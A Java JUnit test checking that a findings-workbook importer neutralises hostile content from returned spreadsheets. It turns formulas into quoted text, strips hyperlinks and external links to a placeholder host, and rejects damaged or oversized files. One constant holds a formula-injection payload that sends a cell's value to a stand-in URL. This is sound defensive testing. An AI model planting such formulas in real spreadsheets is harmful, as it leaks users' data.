package clearbed.track;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import clearbed.report.DemoReport;
import clearbed.report.workbook.FindingsWorkbook;
import clearbed.report.workbook.layout.Headers;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.zip.ZipFile;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Hyperlink;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A log that comes back from somebody unknown has no effect in the one that goes out. */
class CarriedFromStrangersTest {
  private static final String ASKED = "bond-strength/GT-1";
  private static final String CALL = "HYPERLINK(\"http://x.invalid/?\"&A1,\"see\")";

  @TempDir Path folder;
  private Path file;

  @BeforeEach
  void a_first_issue() throws Exception {
    file = folder.resolve("findings.xlsx");
    FindingsWorkbook.write(DemoReport.report("2026-03-02", f -> true), file);
  }

  private void issue() throws Exception {
    Carry carry = EarlierLog.read(file).into(DemoReport.report("2026-04-06", f -> true));
    FindingsWorkbook.write(carry.report(), carry.log(), UnaryOperator.identity(), file);
  }

  @Test
  void a_formula_stays_as_the_text_that_was_typed_and_is_named() throws Exception {
    Desk.edit(
        file,
        book -> {
          Desk.cell(book, Headers.QUESTIONS, ASKED, Headers.ANSWER).setCellFormula(CALL);
          Desk.addColumn(book, Headers.FINDINGS, "Rate");
          Desk.cell(book, Headers.FINDINGS, ASKED, "Rate").setCellFormula("1+1");
        });
    issue();
    try (XSSFWorkbook book = Desk.open(file)) {
      Cell answer = Desk.cell(book, Headers.QUESTIONS, ASKED, Headers.ANSWER);
      assertThat(answer.getCellType()).isEqualTo(CellType.STRING);
      assertThat(answer.getStringCellValue()).isEqualTo("=" + CALL);
      assertThat(answer.getCellStyle().getQuotePrefixed()).isTrue();
      assertThat(Desk.text(book, Headers.FINDINGS, ASKED, "Rate")).isEqualTo("=1+1");
      assertThat(aside(book)).contains("=" + CALL, "=1+1");
    }
  }

  @Test
  void links_and_other_workbooks_are_cut_off_and_named() throws Exception {
    Desk.edit(
        file,
        book -> {
          Cell note = Desk.cell(book, Headers.QUESTIONS, ASKED, Headers.NOTE);
          note.setCellValue("see the letter");
          Hyperlink link = book.getCreationHelper().createHyperlink(HyperlinkType.URL);
          link.setAddress("http://x.invalid/letter?a=1");
          note.setHyperlink(link);
          try (XSSFWorkbook other = new XSSFWorkbook()) {
            other.createSheet("Rates");
            book.linkExternalWorkbook("http://x.invalid/rates.xlsx", other);
          } catch (IOException e) {
            throw new AssertionError(e);
          }
          Sheet own = book.createSheet("Own");
          own.createRow(0).createCell(0).setCellFormula("[1]Rates!A1");
        });
    issue();
    try (XSSFWorkbook book = Desk.open(file)) {
      Cell note = Desk.cell(book, Headers.QUESTIONS, ASKED, Headers.NOTE);
      assertThat(note.getStringCellValue()).isEqualTo("see the letter");
      assertThat(note.getHyperlink()).isNull();
      assertThat(aside(book)).anyMatch(text -> text.startsWith("http://x.invalid/letter"));
      assertThat(aside(book)).anyMatch(text -> text.contains("Rates"));
    }
    try (ZipFile zip = new ZipFile(file.toFile())) {
      zip.stream()
          .filter(part -> part.getName().matches(".*\\.(rels|xml)"))
          .filter(part -> !part.getName().equals("xl/sharedStrings.xml"))
          .forEach(part -> assertThat(text(zip, part.getName())).doesNotContain("x.invalid"));
    }
  }

  @Test
  void one_that_is_cut_or_holds_too_many_rows_of_others_is_refused() throws Exception {
    byte[] whole = Files.readAllBytes(file);
    Path cut = folder.resolve("cut.xlsx");
    Files.write(cut, Arrays.copyOf(whole, whole.length * 99 / 100));
    assertThatThrownBy(() -> EarlierLog.read(cut)).hasMessageContaining("it is damaged");
    Desk.edit(
        file,
        book -> {
          Sheet sheet = book.getSheet(Headers.QUESTIONS);
          for (int i = 0; i <= 5_000; i++)
            sheet.createRow(sheet.getLastRowNum() + 1).createCell(0).setCellValue("x" + i);
        });
    assertThatThrownBy(() -> EarlierLog.read(file))
        .hasMessageContaining("its sheet Questions has more than 5000 rows");
  }

  private static List<String> aside(XSSFWorkbook book) {
    List<String> texts = new ArrayList<>();
    for (Row row : book.getSheet("Set aside")) texts.add(row.getCell(3).getStringCellValue());
    return texts;
  }

  private static String text(ZipFile zip, String name) {
    try {
      return new String(
          zip.getInputStream(zip.getEntry(name)).readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new AssertionError(e);
    }
  }
}
